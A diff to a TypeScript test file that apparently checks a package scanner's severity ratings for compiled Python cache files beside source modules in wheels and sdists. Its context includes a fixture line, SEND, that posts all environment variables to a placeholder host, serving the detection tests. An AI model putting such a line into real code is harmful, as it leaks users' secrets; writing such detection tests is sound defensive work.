@@ -8,6 +8,7 @@ const SEND =
   'import json, os, urllib.request\nurllib.request.urlopen("https://c.invalid", data=json.dumps(dict(os.environ)).encode())\n'
 const COMMENT = '# pad pad pad pad pad pad pad pad pad pad pad pad\n'
 const COMPILED = Buffer.from([0xa7, 0x0d, 0x0d, 0x0a, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xe3]).toString('latin1')
+const HASHED = COMPILED.replace('\n\0', '\n\u0001')
 const NATIVE = '\x7fELF\x02\x01'
 
 /** A module that does a little of everything, and is worth a syntax tree. */
@@ -159,7 +160,7 @@ const UNREAD: readonly Case[] = [
   {
     name: 'a cache that Python takes in place of the source',
     kind: 'wheel',
-    files: { 'a/__init__.py': '', 'a/__pycache__/__init__.cpython-311.pyc': COMPILED.replace('\n\0', '\n\u0001') },
+    files: { 'a/__init__.py': '', 'a/__pycache__/__init__.cpython-311.pyc': HASHED },
     want: ['opaque-program medium'],
   },
   {
@@ -185,14 +186,10 @@ const UNREAD: readonly Case[] = [
     want: ['opaque-program medium'],
   },
   {
-    name: 'a cache beside a module that setup.py loads, whatever ties it to its source',
+    name: 'a cache beside a module that setup.py loads, tied by its time',
     kind: 'sdist',
-    files: {
-      'setup.py': 'import b\nfrom setuptools import setup\nsetup()\n',
-      'b.py': 'x = 1\n',
-      '__pycache__/b.cpython-311.pyc': COMPILED,
-    },
-    want: ['opaque-program high'],
+    files: { 'setup.py': 'import b\n', 'b.py': '', '__pycache__/b.cpython-311.pyc': COMPILED },
+    want: ['opaque-program low'],
   },
   {
     name: 'a cache beside a back end',
@@ -202,6 +199,12 @@ const UNREAD: readonly Case[] = [
       't/b.py': 'x = 1\n',
       't/__pycache__/b.cpython-311.pyc': COMPILED,
     },
+    want: ['opaque-program low'],
+  },
+  {
+    name: 'a cache beside a module that setup.py loads, tied by a hash',
+    kind: 'sdist',
+    files: { 'setup.py': 'import b\n', 'b.py': '', '__pycache__/b.cpython-311.pyc': HASHED },
     want: ['opaque-program high'],
   },
 ]
